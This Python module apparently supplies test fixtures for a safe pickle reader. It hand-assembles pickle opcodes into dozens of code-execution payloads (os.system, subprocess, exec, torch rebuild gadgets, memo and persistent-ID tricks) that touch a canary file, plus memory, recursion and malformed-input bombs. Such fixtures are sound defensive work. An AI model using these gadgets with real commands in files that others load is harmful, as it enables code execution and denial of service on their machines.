"""Pickles made to harm whoever runs them, or to cost much time or memory, as instructions."""

from __future__ import annotations

import pickle
import struct


def text(value: str) -> bytes:
    """The instruction that pushes a text."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Instructions that call a function, each argument made by instructions."""
    return f"c{module}\n{name}\n(".encode() + b"".join(arguments) + b"tR"


def executing(canary: str) -> dict[str, bytes]:
    """Name -> instructions which would make the file `canary` if they were run."""
    touch, python = f"touch {canary}", f"open({canary!r}, 'w').close()"
    shell = text("/bin/sh") + text("-c") + text(touch)
    inner = pickle.dumps({"a": 1})[:2] + call("os", "system", text(touch)) + b"."
    found = {f"{module} {name}": call(module, name, text(touch)) for module, name in (
        ("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"),
        ("subprocess", "getoutput"), ("commands", "getoutput"), ("pty", "spawn"))}
    found |= {f"{module} {name}": call(module, name, text(python)) for module, name in (
        ("builtins", "exec"), ("__builtin__", "eval"), ("builtins", "eval"),
        ("torch.jit._script", "exec"), ("numpy.testing._private.utils", "runstring"),
        ("timeit", "timeit"), ("code", "interact"))}
    found |= {
        "subprocess": call("subprocess", "Popen", b"(" + shell + b"l"),
        "open": call("builtins", "open", text(canary), text("w")),
        "import": call("builtins", "__import__", text("os")),
        "getattr": call("builtins", "getattr", call("builtins", "__import__", text("os")),
                        text("system")) + b"(" + text(touch) + b"tR",
        "apply": call("builtins", "apply", b"cos\nsystem\n", b"(" + text(touch) + b"t"),
        "map": call("builtins", "list", call("builtins", "map", b"cos\nsystem\n",
                                             b"(" + text(touch) + b"l")),
        "partial": call("functools", "partial", b"cos\nsystem\n", text(touch)) + b")R",
        "reduce chain": call("operator", "methodcaller", text("system"), text(touch))
        + b"(cos\n\ntR",
        "attribute chain": b"cos\npath.os.system\n(" + text(touch) + b"tR",
        "stack global": text("os") + text("system") + b"\x93(" + text(touch) + b"tR",
        "hidden in memo": text("os") + b"q\x00" + text("system") + b"q\x010" + b"0h\x00h\x01\x93("
        + text(touch) + b"tR",
        "new object": b"cos\nsystem\n(" + text(touch) + b"t\x81",
        "new object with keywords": b"cos\nsystem\n(" + text(touch) + b"t}\x92",
        "instance": b"(" + text(touch) + b"ios\nsystem\n",
        "object": b"(cos\nsystem\n" + text(touch) + b"o",
        "extension": b"\x82\x01(" + text(touch) + b"tR",
        "build": b"cmy\nclass\n)\x81}(" + text("__setstate__") + b"cos\nsystem\nub"
        + text(touch) + b"b",
        "build slots": b"cmy\nclass\n)\x81N}" + text("__dict__") + b"cos\nenviron\ns\x86b",
        "load from bytes": call("torch.storage", "_load_from_bytes",
                                b"B" + struct.pack("<I", len(inner)) + inner),
        "loads": call("pickle", "loads", b"B" + struct.pack("<I", len(inner)) + inner),
        "codecs": call("_codecs", "decode", call("builtins", "eval", text(python))),
        "getitem": b"cbuiltins\neval\nq\x05" + text(python) + b"\x85R",
        "rebuild with a class": call("torch._utils", "_rebuild_tensor_v2", b"cos\nsystem\n",
                                     text(touch), b")", b")"),
        "rebuild from a type": call("torch._tensor", "_rebuild_from_type_v2", b"cos\nsystem\n",
                                    b"cbuiltins\neval\n", b"(" + text(python) + b"t", b"}"),
        "parameter": call("torch._utils", "_rebuild_parameter",
                          call("os", "system", text(touch)), b"\x88", b")"),
        "ordered": call("collections", "OrderedDict", call("os", "system", text(touch))),
        "persistent line": b"Pos.system\n",
        "persistent class": b"(" + text("storage") + call("os", "system", text(touch))
        + text("0") + text("cpu") + b"K\x01tQ",
        "persistent module": b"(" + text("module") + b"cos\nsystem\n" + text(touch)
        + text("import os") + b"tQ)R",
        "persistent text": text(f"storage {touch}") + b"Q",
        "persistent none": b"NQ",
        "persistent list": b"](" + text("storage") + b"eQ",
    }
    return found


def bombs() -> dict[str, bytes]:
    """Name -> instructions that take much memory, time or depth in a careless reader."""
    laughs = b"](" + text("ha") * 10 + b"e" + b"".join(
        b"q" + bytes([i]) + b"](" + (b"h" + bytes([i])) * 10 + b"e" for i in range(40))
    dictionaries = b"}" + b"".join(
        b"q" + bytes([i]) + b"}(" + b"".join(text(str(k)) + b"h" + bytes([i]) for k in range(9))
        + b"u" for i in range(40))
    return {
        "nested lists": b"]" * 50_000 + b"a" * 49_999,
        "nested tuples": b")" + b"\x85" * 50_000,
        "nested tuples as a key": b"})" + b"\x85" * 100_000 + b"K\x01s",
        "nested dictionaries": b"}" + (text("a") + b"}") * 20_000 + b"s" * 20_000,
        "nested objects": b"cmy\nclass\n)\x81" * 10_000 + b"b" * 9_999,
        "nested calls": b"cmy\nclass\n" + b")R" * 30_000,
        "one list as many dictionaries": b"](" + (text("a") + b"N\x86") * 20_000 + b"eq\x000"
        + b"](" + b"ccollections\nOrderedDict\nh\x00\x85R" * 5_000 + b"e",
        "one shape many times": b"(" + b"K\x01" * 50_000 + b"tq\x000](" + b"".join(
            b"ctorch._utils\n_rebuild_tensor\n(NK\x00h\x00h\x00tR" for _ in range(500)) + b"e",
        "one long key many times": b"}q\x00(" + text("k" * 300_000) + b"N" + text("l") + b"](h\x00"
        + b"h\x00" * 3_000 + b"eu",
        "a class with escapes": b"cos\x1b]0;x\x07\nsys\x1b[2Jtem\n)R",
        "a key with escapes": b"}(" + text("\x1b[2J") + b"cos\nsystem\n)Ru",
        "marks": b"(" * 50_000,
        "marks and tuples": b"(" * 30_000 + b"t" * 30_000,
        "a list in itself": b"]q\x00h\x00a",
        "a dictionary in itself": b"}q\x00" + text("state_dict") + b"h\x00s",
        "a list in itself, wide": b"]q\x00(" + b"h\x00" * 5_000 + b"e",
        "laughs": laughs,
        "laughing dictionaries": dictionaries,
        "a module in itself": b"cmy\nclass\n)\x81q\x00}(" + text("_parameters") + b"}"
        + text("_buffers") + b"}" + text("_modules") + b"}" + text("a") + b"h\x00sub",
        "a long of many bytes": b"\x8b" + struct.pack("<i", 300_000) + b"\x7f" * 300_000,
        "a long of a lie": b"\x8b\xff\xff\xff\x7f",
        "a negative long": b"\x8b\xff\xff\xff\xff",
        "a decimal of many digits": b"I" + b"9" * 300_000 + b"\n",
        "a long decimal of many digits": b"L" + b"9" * 300_000 + b"L\n",
        "a float of many digits": b"F" + b"9" * 300_000 + b"\n",
        "a line without end": b"S'" + b"a" * 300_000,
        "a text of a lie": b"X\xff\xff\xff\xff",
        "a text of a larger lie": b"\x8d" + b"\xff" * 8,
        "bytes of a lie": b"\x8e" + b"\xff" * 7 + b"\x7f",
        "a byte array of a lie": b"\x96" + b"\xff" * 7 + b"\x7f",
        "a frame of a lie": b"\x95" + b"\xff" * 8 + b"N",
        "a buffer from outside": b"\x97\x98",
        "memo numbers of a lie": b"Nr\xff\xff\xff\xffp4294967295\n",
        "a memo number without end": b"Np" + b"9" * 5_000 + b"\n",
        "a negative memo number": b"Np-1\n",
        "a memo that is empty": b"j\xff\xff\xff\xff",
        "many memos": b"N" + b"".join(b"r" + struct.pack("<I", i) for i in range(20_000)),
        "keys that collide": b"}(" + b"".join(
            b"\x8a\x10" + (i * ((1 << 61) - 1)).to_bytes(16, "little") + b"N"
            for i in range(30_000)) + b"u",
        "keys of floats": b"}(" + b"".join(b"G" + struct.pack(">d", i * 2.0**61) + b"N"
                                           for i in range(30_000)) + b"u",
        "duplicates": b"](" + b"N" + b"2" * 50_000 + b"e",
        "duplicated lists": b"]" + b"2" * 30_000 + b"a" * 30_000,
        "an endless stack": b"N" * 50_000,
        "no stop": b"N" * 10,
        "an empty stack": b"000",
        "below the mark": b"N(0000",
        "items of a number": b"K\x01(NNe",
        "an odd number of items": b"}(Nu",
        "a global without a name": b"cos\n",
        "a stack global of numbers": b"K\x01K\x02\x93",
        "bad utf-8": b"X\x02\x00\x00\x00\xff\xfe",
        "an unknown instruction": b"\xff",
        "a sized tensor": call("torch._utils", "_rebuild_tensor_v2", b"N", b"K\x00", b")", b")"),
        "a tensor of few arguments": call("torch._utils", "_rebuild_tensor_v2"),
        "a parameter of nothing": call("torch._utils", "_rebuild_parameter"),
    }
